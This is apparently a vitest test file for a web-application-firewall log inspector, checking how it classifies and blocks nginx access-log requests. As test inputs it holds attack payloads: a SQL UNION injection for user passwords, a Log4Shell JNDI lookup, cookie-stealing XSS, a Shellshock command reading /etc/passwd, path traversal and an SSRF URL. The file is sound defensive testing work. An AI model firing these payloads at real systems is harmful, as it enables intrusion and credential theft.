import { Event, EventSchema } from '@parapet/engine';
import type { Inspection, Inspector } from '@parapet/kinds';
import { beforeAll, describe, expect, test } from 'vitest';
import { LoggedRequests } from '../../src/inspection/loggedRequests.ts';
import { prepareInspector } from '../../src/inspection/prepareInspector.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
const UNION = '/node?q=1%27%20UNION%20SELECT%20name,pass%20FROM%20users_field_data--%20-';

interface Logged {
  readonly target: string;
  readonly agent?: string;
  readonly referrer?: string;
  readonly status?: string;
  readonly ip?: string;
  readonly atMs?: number;
  readonly logType?: string;
}

class Log {
  readonly schema = new EventSchema();
  readonly logged: LoggedRequests;
  readonly #event = new Event(this.schema);

  constructor(inspector: Inspector, isEnforced = true) {
    this.logged = new LoggedRequests(this.schema, inspector, isEnforced);
  }

  /** Returns the fields that a line got. */
  look(line: Logged): Readonly<Record<string, string | undefined>> {
    const { target, agent = BROWSER, referrer = '-', status = '200', ip = '192.0.2.7', atMs = 0 } = line;
    const event = this.#event;
    event.resetTo('', { src: '', module: 'file', labels: { type: 'nginx' } }, atMs);
    const set = (bag: 'Meta' | 'Parsed', name: string, text: string): void =>
      event.set(this.schema.slot(bag, name), text);
    set('Meta', 'log_type', line.logType ?? 'http_access-log');
    set('Meta', 'http_verb', 'GET');
    set('Meta', 'http_path', target);
    set('Meta', 'http_user_agent', agent);
    set('Meta', 'http_status', status);
    set('Meta', 'source_ip', ip);
    set('Parsed', 'http_referer', referrer);
    this.logged.look(event);
    const names = ['action', 'class', 'rule', 'part', 'excerpt'].map((name) => `attack_${name}`);
    return Object.fromEntries(
      [...names, 'gateway_action', 'gateway_record'].map((name) => [
        name,
        event.values[this.schema.slot('Meta', name)],
      ]),
    );
  }
}

describe('requests of a log', () => {
  let inspector: Inspector;
  beforeAll(() => {
    inspector = prepareInspector();
  });

  test('get the fields of the gateway when there is an attack in the address, the referrer or the browser’s name', () => {
    const log = new Log(inspector);
    expect(log.look({ target: UNION })).toMatchObject({
      attack_action: 'block',
      attack_class: 'sqli',
      attack_part: 'query q',
      gateway_action: 'attack',
    });
    const jndi = '${jndi:ldap://192.0.2.1/a}';
    expect(log.look({ target: '/', agent: jndi })).toMatchObject({ attack_class: 'java' });
    expect(log.look({ target: '/', referrer: jndi })).toMatchObject({ attack_class: 'java' });
    expect(log.logged.findings).toMatchObject({ requests: 3, refused: 3 });
  });

  test('get none when there is none, or when it is no request', () => {
    const log = new Log(inspector);
    for (const line of [
      { target: '/node/1?page=2' },
      { target: "/search?keys=rock%20'n'%20roll" },
      { target: '\\x16\\x03\\x01' },
      { target: UNION, logType: 'http_error-log' },
    ])
      expect(log.look(line)['attack_action']).toBeUndefined();
  });

  test('are read as they were before the log’s escapes', () => {
    const log = new Log(inspector);
    const target = '/?q=\\x22><script>alert(document.cookie)</script>';
    expect(log.look({ target })['attack_class']).toBe('xss');
    expect(
      log.look({ target: '/', agent: '() { :;}; echo \\"x\\"; /bin/cat /etc/passwd' })['attack_class'],
    ).toBe('rce');
  });

  test('that the site has are no probes', () => {
    const log = new Log(inspector);
    const target = '/wp-content/plugins/akismet/akismet.php';
    expect(log.look({ target, status: '404' })['attack_class']).toBe('scanner');
    expect(log.look({ target, status: '200' })['attack_class']).toBeUndefined();
    expect(log.look({ target: '/downloads/config.xml', status: '200' })['attack_class']).toBeUndefined();
    expect(log.look({ target: '/.env', status: '200' })['attack_class']).toBe('leak');
    expect(log.look({ target: UNION, status: '200' })['attack_class']).toBe('sqli');
  });

  test('have one record for an address that goes on with the same kind of attack within a minute', () => {
    const recordsOf = (log: Log): readonly (string | undefined)[] =>
      [
        { target: UNION, atMs: 1_000_000 },
        { target: `${UNION}x`, atMs: 1_030_000 },
        { target: UNION, atMs: 1_030_000, ip: '192.0.2.8' },
        { target: UNION, atMs: 1_090_000 },
      ].map((line) => log.look(line)['gateway_record']);
    const records = recordsOf(new Log(inspector));
    expect(records[0]).toMatch(/^[0-9a-f]{8}$/);
    expect(records[1]).toBe(records[0]);
    expect(new Set(records).size).toBe(3);
    expect(recordsOf(new Log(inspector))).toEqual(records);
  });

  test('are told as let through where the configuration only observes', () => {
    expect(new Log(inspector, false).look({ target: UNION })['gateway_action']).toBe('observed');
  });

  test('are inspected once for each text that is new', () => {
    let asked = 0;
    const counting: Inspector = {
      inspect: (request) => {
        asked++;
        return inspector.inspect(request);
      },
    };
    const log = new Log(counting);
    for (let i = 0; i < 1000; i++)
      log.look({ target: `/node/${i}?page=${i % 7}`, referrer: `https://example.org/node/${i + 1}` });
    expect(asked).toBeLessThan(5);
    for (let i = 0; i < 100; i++) log.look({ target: UNION });
    expect(asked).toBeLessThan(6);
    expect(log.logged.findings.classes).toEqual([{ class: 'sqli', requests: 100, example: UNION }]);
  });

  test('get the verdict that the inspector gives, whatever was looked at before', () => {
    const parts = [
      '/',
      '/node/12',
      '/?q=1',
      '/?q=%27',
      UNION,
      '/.env',
      '/a?f=../../../etc/passwd',
      '/?a=<b>',
      '/x?u=http://10.0.0.1/',
    ];
    const agents = [BROWSER, 'curl/8.0', 'sqlmap/1.7', '-'];
    const referrers = ['-', 'https://example.org/node/7', 'https://example.org/?q=<script>alert(1)</script>'];
    const log = new Log(inspector);
    const verdict = (action: Inspection['action']): string | undefined =>
      action === 'block' || action === 'reject' ? action : undefined;
    for (let round = 0; round < 2; round++)
      for (const target of parts)
        for (const agent of agents)
          for (const referrer of referrers) {
            const headers: [string, string][] = [];
            if (agent !== '-') headers.push(['user-agent', agent]);
            if (referrer !== '-') headers.push(['referer', referrer]);
            const { action } = inspector.inspect({
              ...{ method: 'GET', rawTarget: target, headers },
              ...{ body: undefined, isBodyCut: false, site: '' },
            });
            const found = log.look({ target, agent, referrer, status: '404' })['attack_action'];
            expect([target, agent, referrer, found]).toEqual([target, agent, referrer, verdict(action)]);
          }
  });
});
